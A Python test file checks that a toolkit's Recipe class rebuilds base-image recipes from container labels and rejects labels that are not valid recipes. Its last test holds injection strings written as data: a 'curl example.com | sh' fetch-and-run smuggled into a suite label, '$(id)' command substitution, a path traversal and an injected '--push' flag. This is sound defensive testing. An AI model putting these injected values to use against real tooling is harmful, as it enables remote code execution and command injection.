"""What a made base says of itself."""

from toolkit.bases.recipe import Recipe


def test_labels_hold_the_whole_recipe() -> None:
    recipe = Recipe(suite="bookworm", packages=("git", "libgomp1"))
    assert Recipe.of_labels(recipe.labels) == recipe
    assert recipe.command == "comp base create --suite bookworm --packages git,libgomp1"
    plain = Recipe(suite="trixie")
    assert Recipe.of_labels(plain.labels) == plain
    assert plain.command == "comp base create --suite trixie"


def test_images_of_others_have_none() -> None:
    assert Recipe.of_labels({"maintainer": "a"}) is None


def test_labels_that_are_no_recipe_become_no_command() -> None:
    for labels in (
        {"dev.comp.base.suite": "bookworm; curl example.com | sh"},
        {"dev.comp.base.suite": "../x"},
        {"dev.comp.base.suite": "bookworm", "dev.comp.base.packages": "git $(id)"},
        {"dev.comp.base.suite": "bookworm", "dev.comp.base.packages": "--push=example.com/x"},
    ):
        assert Recipe.of_labels(labels) is None, labels
    pinned = {"dev.comp.base.suite": "bookworm", "dev.comp.base.packages": "git=1:2.39.5-0+deb12u3 libc++1"}
    assert Recipe.of_labels(pinned) == Recipe(suite="bookworm", packages=("git=1:2.39.5-0+deb12u3", "libc++1"))
